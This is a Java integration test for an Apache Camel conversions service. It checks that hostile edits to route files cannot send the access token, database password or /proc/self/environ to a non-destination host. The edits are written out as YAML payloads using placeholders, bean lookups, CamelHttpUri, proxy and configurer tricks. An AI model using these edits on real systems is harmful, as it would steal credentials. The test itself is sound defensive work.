package io.pinconv.routes;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.pinconv.standin.PinterestStandIn;
import io.pinconv.support.Catcher;
import io.pinconv.support.PurchaseActivation;
import io.pinconv.support.TestConfig;
import io.pinconv.support.TestDatabase;
import io.pinconv.support.TestDatabase.PurchaseRow;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import org.apache.camel.CamelContext;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.test.context.TestPropertySource;

/**
 * An admin who edits the routes, or anyone who can write the watched routes folder, tries to send the secrets
 * (the access token, the database password, the process environment, files) or the events to a host on this
 * machine that is no destination. Each edit is either refused at reload, with its file and line, or goes live
 * and is harmless: the other host receives nothing at all, the run that met it fails saying which host was
 * refused, and once the routes are put back every row is delivered.
 */
@SpringBootTest(
        webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
        properties = {
            "conversions.demo=false",
            "spring.security.user.name=ops",
            "spring.security.user.password=s3cret",
            "conversions.routes.wait-for-runs=2s",
            "spring.datasource.hikari.data-source-properties.ApplicationName=edits-it"
        })
class RouteEditsReachNoSecretIT {

    static final String TOKEN = "pina_EDIT-SECRET-" + System.nanoTime();
    static final String ACTIVATION = "edit-shop";
    static final PinterestStandIn pinterest = new PinterestStandIn(TOKEN);
    static final Catcher other = new Catcher();
    static final String schema = TestDatabase.newPurchaseSegment();
    static final String ACCOUNT = TestDatabase.newAdAccount();
    static final Path folder = PackagedRoutes.copy("routes-edits-it");
    static final ObjectMapper JSON = new ObjectMapper();
    static final HttpClient HTTP = HttpClient.newHttpClient();
    static final AtomicInteger orders = new AtomicInteger();

    static {
        TestDatabase.forget(ACTIVATION);
        // as an operator would export it: Camel resolved placeholders from system properties and the environment
        System.setProperty("PINTEREST_ACCESS_TOKEN", TOKEN);
    }

    @DynamicPropertySource
    static void configure(DynamicPropertyRegistry p) {
        TestConfig.database(p);
        TestConfig.destination(p, "pin", ACCOUNT, TOKEN, pinterest.baseUrl());
        PurchaseActivation.configure(p, ACTIVATION, "pin", PurchaseActivation.segment(schema));
        p.add("conversions.routes.folder", folder::toString);
    }

    @AfterAll
    static void tearDown() throws IOException {
        System.clearProperty("PINTEREST_ACCESS_TOKEN");
        pinterest.stop();
        other.close();
        TestDatabase.dropSchema(schema);
        PackagedRoutes.delete(folder);
    }

    /** An edit of one packaged file: {@code text} goes in right before the line holding {@code before}. */
    record Edit(String name, String file, String before, String text, String appended) {

        void apply() throws IOException {
            Path p = folder.resolve(file);
            String content = Files.readString(p);
            int at = content.indexOf(before);
            assertThat(at).as(name + ": '" + before + "' in " + file).isPositive();
            int lineStart = content.lastIndexOf('\n', at) + 1;
            Files.writeString(p, content.substring(0, lineStart) + text + content.substring(lineStart) + appended);
        }
    }

    static final String RUN_STEP = "              - bean:\n                  id: finish-run";
    static final String CALL_STEP =
            "                - toD:\n                    id: \"{{destinationRoute}}-post-events\"";

    /** Steps at the indentation of run-activation's doTry, then a call to the other host. */
    static String runSteps(String steps) {
        return (steps + """
                - to:
                    id: leak
                    uri: "%s/leak"
                """.formatted(other.url())).indent(14);
    }

    static List<Edit> edits() {
        List<Edit> e = new ArrayList<>();
        // 1. placeholders, made to look like a template's parameters by a template that declares them
        e.add(new Edit("placeholders", "run.yaml", RUN_STEP, runSteps("""
                - setBody:
                    id: secrets
                    constant: "tok={{PINTEREST_ACCESS_TOKEN}} db={{CONVERSIONS_DB_PASSWORD}}"
                """), """
                - routeTemplate:
                    id: dummy
                    parameters:
                      - name: PINTEREST_ACCESS_TOKEN
                      - name: CONVERSIONS_DB_PASSWORD
                    route:
                      from:
                        uri: direct:dummy
                        steps:
                          - log: "x"
                """));
        // 2. files through type conversion
        e.add(new Edit("a file through bodyAs", "run.yaml", RUN_STEP, runSteps("""
                - setBody:
                    id: path
                    constant: /proc/self/environ
                - setBody:
                    id: file
                    simple: "${bodyAs(java.io.File)}"
                - convertBodyTo:
                    id: read
                    type: java.lang.String
                """), ""));
        e.add(new Edit("a file through an expression's result type", "run.yaml", RUN_STEP, runSteps("""
                - setBody:
                    id: file
                    simple:
                      expression: /proc/self/environ
                      resultType: java.io.File
                - convertBodyTo:
                    id: read
                    type: java.lang.String
                """), ""));
        // 3. service beans that handed the token out
        e.add(new Edit("the token through the catalogue", "run.yaml", RUN_STEP, runSteps("""
                - setBody:
                    id: catalog
                    simple: "${bean:activationCatalog?method=get('edit-shop')}"
                - setBody:
                    id: token
                    simple: "${body.destination.accessToken}"
                """), ""));
        e.add(new Edit("the destination through a bean step", "run.yaml", RUN_STEP, runSteps("""
                - setBody:
                    id: id
                    constant: edit-shop
                - bean:
                    id: catalog
                    ref: activationCatalog
                    method: get
                - setBody:
                    id: destination
                    simple: "${body.destination} ${body}"
                """), ""));
        // 4. the token to any host: right after authorize, or by moving the real call
        e.add(new Edit(
                "a call right after authorize",
                "delivery.yaml",
                CALL_STEP,
                """
                - to:
                    id: leak
                    uri: "%s/leak"
                """.formatted(other.url()).indent(16),
                ""));
        e.add(new Edit(
                "CamelHttpUri moves the call",
                "delivery.yaml",
                CALL_STEP,
                """
                - setHeader:
                    id: "{{destinationRoute}}-move"
                    name: CamelHttpUri
                    constant: "%s/moved"
                """.formatted(other.url()).indent(16),
                ""));
        e.add(new Edit(
                "the call through a proxy",
                "delivery.yaml",
                CALL_STEP,
                """
                - toD:
                    id: proxied
                    uri: "${variable.request.eventsUrl}?throwExceptionOnFailure=false&proxyAuthHost=127.0.0.1&proxyAuthPort=%d&proxyAuthScheme=http"
                """.formatted(other.port()).indent(16),
                ""));
        e.add(new Edit(
                "a configurer of the file's choosing, through an alias",
                "delivery.yaml",
                CALL_STEP,
                """
                - toD:
                    id: configured
                    uri: &configured "%s/c?httpClientConfigurer=#environment"
                - toD:
                    id: again
                    uri: *configured
                """.formatted(other.url()).indent(16),
                ""));
        e.add(new Edit(
                "a configurer of the file's choosing",
                "delivery.yaml",
                CALL_STEP,
                """
                - toD:
                    id: configured
                    uri: "%s/c?httpClientConfigurer=#deliveryRetries"
                """.formatted(other.url()).indent(16),
                ""));
        return e;
    }

    static HttpResponse<String> post(int port, String path) throws Exception {
        return HTTP.send(
                HttpRequest.newBuilder(URI.create("http://localhost:" + port + path))
                        .POST(HttpRequest.BodyPublishers.noBody())
                        .header(
                                "Authorization",
                                "Basic "
                                        + Base64.getEncoder()
                                                .encodeToString("ops:s3cret".getBytes(StandardCharsets.UTF_8)))
                        .build(),
                HttpResponse.BodyHandlers.ofString());
    }

    static String newRow() {
        String id = "ED-" + orders.incrementAndGet();
        TestDatabase.insert(schema, List.of(PurchaseRow.valid(id, Instant.now().minus(1, ChronoUnit.HOURS))));
        return id;
    }

    /** A run after the edit: whatever it did, nothing reached the other host. */
    static JsonNode runMeetsNothingOutside(int port, String edit) throws Exception {
        newRow();
        HttpResponse<String> r = post(port, "/api/activations/" + ACTIVATION + "/runs");
        assertThat(r.statusCode()).as(edit + ": " + r.body()).isIn(200, 409);
        assertThat(other.received()).as(edit + ": what the other host received").isEmpty();
        return JSON.readTree(r.body());
    }

    static void everyRowIsDeliveredOnceTheRoutesAreBack(int port) throws Exception {
        PackagedRoutes.restore(folder);
        HttpResponse<String> back = post(port, "/api/routes/reload");
        assertThat(back.statusCode()).as(back.body()).isEqualTo(200);
        String last = newRow();
        HttpResponse<String> r = post(port, "/api/activations/" + ACTIVATION + "/runs");
        assertThat(JSON.readTree(r.body()).get("status").asText()).as(r.body()).isEqualTo("succeeded");
        List<String> all = new ArrayList<>();
        for (int i = 1; i <= orders.get(); i++) {
            all.add("ED-" + i);
        }
        assertThat(pinterest.acceptedIds()).contains(last).containsAll(all);
        assertThat(pinterest.violations()).isEmpty();
    }

    @LocalServerPort
    int port;

    @BeforeEach
    void packagedRoutes() throws IOException {
        PackagedRoutes.restore(folder);
    }

    @Test
    void eachEditIsRefusedWithItsFileAndLineOrReachesNothing() throws Exception {
        List<String> outcomes = new ArrayList<>();
        for (Edit edit : edits()) {
            PackagedRoutes.restore(folder);
            edit.apply();
            HttpResponse<String> reload = post(port, "/api/routes/reload");
            if (reload.statusCode() == 422) {
                assertThat(JSON.readTree(reload.body()).get("error").asText())
                        .as(edit.name())
                        .matches("(?s)" + java.util.regex.Pattern.quote(edit.file()) + ":\\d+: .+");
                outcomes.add(edit.name() + ": refused");
            } else {
                assertThat(reload.statusCode())
                        .as(edit.name() + ": " + reload.body())
                        .isEqualTo(200);
                JsonNode run = runMeetsNothingOutside(port, edit.name());
                outcomes.add(edit.name() + ": live, run " + run.path("status").asText());
                if ("failed".equals(run.path("status").asText())) {
                    assertThat(run.path("failure").asText())
                            .as(edit.name())
                            .contains("does not connect to http://127.0.0.1:" + other.port());
                }
            }
            assertThat(other.received()).as(edit.name()).isEmpty();
        }
        System.out.println("Route edits: " + outcomes);
        // the ones that reached Camel's HTTP client went live and were stopped there: the guard is what held
        assertThat(outcomes).anyMatch(o -> o.contains("live"));
        everyRowIsDeliveredOnceTheRoutesAreBack(port);
    }

    @Autowired
    CamelContext camel;

    /** Underneath the route check: in the running service, text becomes no file and no placeholder a secret. */
    @Test
    void theLiveContextTurnsNoTextIntoAFileAndResolvesNoSetting() {
        for (Class<?> target : LocalFilesUnreadable.REFUSED_TARGETS) {
            org.assertj.core.api.Assertions.assertThatThrownBy(
                            () -> camel.getTypeConverter().convertTo(target, "/proc/self/environ"))
                    .as(target.getName())
                    .isInstanceOf(org.apache.camel.TypeConversionException.class);
        }
        org.assertj.core.api.Assertions.assertThatThrownBy(
                        () -> camel.resolvePropertyPlaceholders("{{PINTEREST_ACCESS_TOKEN}}"))
                .hasMessageContaining("[PINTEREST_ACCESS_TOKEN] not found");
        org.assertj.core.api.Assertions.assertThatThrownBy(
                        () -> camel.resolvePropertyPlaceholders("{{conversions.destinations.pin.access-token}}"))
                .hasMessageContaining("not found");
        assertThat(camel.resolvePropertyPlaceholders("{{env:HOME}}")).isEqualTo("HOME");
    }

    @Test
    void theTokenStillGoesToItsDestination() throws Exception {
        String id = newRow();
        HttpResponse<String> r = post(port, "/api/activations/" + ACTIVATION + "/runs");
        assertThat(JSON.readTree(r.body()).get("status").asText()).as(r.body()).isEqualTo("succeeded");
        // the stand-in answers 401 to any other token: accepted means it came, from inside the client
        assertThat(pinterest.acceptedIds()).contains(id);
    }

    @Nested
    @TestPropertySource(properties = {"conversions.routes.watch=true", "conversions.routes.watch-quiet-period=500ms"})
    class SavedIntoTheWatchedFolder {

        @LocalServerPort
        int watchedPort;

        @Autowired
        CamelContext watchedCamel;

        @Test
        void aSavedEditReachesNothingEither() throws Exception {
            Edit call = edits().stream()
                    .filter(e -> e.name().equals("CamelHttpUri moves the call"))
                    .findFirst()
                    .orElseThrow();
            call.apply();
            await().atMost(Duration.ofSeconds(30))
                    .pollInterval(Duration.ofMillis(200))
                    .until(() -> watchedCamel.getProcessor("deliver-to-pin-move") != null
                            && watchedCamel.getRoute("activation-" + ACTIVATION) != null);
            JsonNode run = runMeetsNothingOutside(watchedPort, call.name());
            assertThat(run.path("status").asText()).isEqualTo("failed");
            assertThat(run.path("failure").asText())
                    .contains(
                            "does not connect to http://127.0.0.1:" + other.port(),
                            "conversions.security.allowed-hosts");
            PackagedRoutes.restore(folder);
            await().atMost(Duration.ofSeconds(30))
                    .pollInterval(Duration.ofMillis(200))
                    .until(() -> watchedCamel.getProcessor("deliver-to-pin-move") == null
                            && watchedCamel.getRoute("activation-" + ACTIVATION) != null);
            String id = newRow();
            HttpResponse<String> r = post(watchedPort, "/api/activations/" + ACTIVATION + "/runs");
            assertThat(JSON.readTree(r.body()).get("status").asText())
                    .as(r.body())
                    .isEqualTo("succeeded");
            assertThat(pinterest.acceptedIds()).contains(id);
        }
    }
}
